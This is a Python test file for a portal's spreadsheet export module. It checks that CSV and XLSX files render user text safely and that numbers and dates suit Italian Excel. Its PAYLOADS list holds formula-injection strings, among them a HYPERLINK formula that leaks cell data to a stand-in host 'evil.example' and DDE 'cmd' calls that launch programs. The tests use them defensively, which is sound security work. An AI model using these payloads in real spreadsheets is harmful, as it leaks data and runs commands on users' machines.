"""`portal.exports`: what a spreadsheet user gets from every CSV and XLSX the portal writes.

The attack: a text typed into the portal that starts like a formula (`=HYPERLINK(...)`,
`+cmd|...`, `@SUM(...)`) must reach the spreadsheet as the text it is, never as a formula; and a
CSV must open in an Italian Excel as columns of numbers with decimal commas, accents intact.
tests/security/test_exports_attack.py drives the same payloads through the portal's forms.
"""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from portal.exports import FORMULA_STARTS, Sheet, csv_bytes, inert, write_csv, xlsx_bytes

PAYLOADS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Clicca")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]


def test_every_formula_start_is_covered_by_the_payloads():
    assert {payload[0] for payload in PAYLOADS} == set(FORMULA_STARTS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_becomes_text_in_a_csv(payload):
    data = csv_bytes(("azienda", "fte"), [(payload, 12)])

    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))

    assert rows[1] == ["'" + payload, "12"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_stays_a_text_cell_in_a_workbook_shown_as_typed(payload):
    data = xlsx_bytes([Sheet("Aziende", ("azienda", "fte"), [(payload, 12)], footer=[("Fonte:", payload)])])

    sheet = load_workbook(io.BytesIO(data))["Aziende"]

    for cell in (sheet["A2"], sheet["B4"]):
        # a control character is stored as Excel's escape (_x000D_), which Excel decodes and openpyxl does not
        assert cell.data_type == "s" and unescape(cell.value) == payload
        assert cell.quotePrefix, "Excel keeps a quote-prefixed cell as text even when someone edits it"
    assert sheet["B2"].value == 12 and sheet["B2"].data_type == "n"


def test_plain_text_and_numbers_are_left_alone():
    assert inert("Voce Chiara S.p.A.") == "Voce Chiara S.p.A."
    data = xlsx_bytes([Sheet("S", ("a",), [("Voce Chiara", Decimal("-0.4282"), -3, date(2026, 3, 2))])])
    row = [c.value for c in load_workbook(io.BytesIO(data))["S"][2]]
    assert row == ["Voce Chiara", pytest.approx(-0.4282), -3, datetime(2026, 3, 2)]
    assert load_workbook(io.BytesIO(data))["S"]["D2"].number_format == "dd/mm/yyyy", "a date as Italians write it"


def test_csv_for_an_italian_excel_bom_semicolon_decimal_comma_crlf():
    data = csv_bytes(("voce", "valore", "quota", "data"),
                     [("Città di Forlì", Decimal("0.4282"), -12.5, date(2026, 3, 2)), ("vuoto", None, 0, None)])

    assert data.startswith("\ufeff".encode())
    assert data.decode("utf-8-sig").split("\r\n") == [
        "voce;valore;quota;data", "Città di Forlì;0,4282;-12,5;02/03/2026", "vuoto;;0;", ""]


def test_a_decimal_is_never_written_with_an_exponent():
    assert csv_bytes(None, [(Decimal("1E+2"), Decimal("0.00001"))]).decode("utf-8-sig") == "100;0,00001\r\n"


def test_write_csv_for_the_command_line_has_no_bom():
    stream = io.StringIO()
    write_csv(stream, ("riga_id",), [("=1+1",)])
    assert stream.getvalue() == "riga_id\r\n'=1+1\r\n"


def test_header_is_bold_and_frozen_and_widths_apply():
    data = xlsx_bytes([Sheet("Dati", ("Proposta", "FTE"), [("A", 1)], widths=(42, 18))])
    sheet = load_workbook(io.BytesIO(data))["Dati"]
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width == pytest.approx(42, abs=1)  # XlsxWriter stores the width as Excel does, padding included
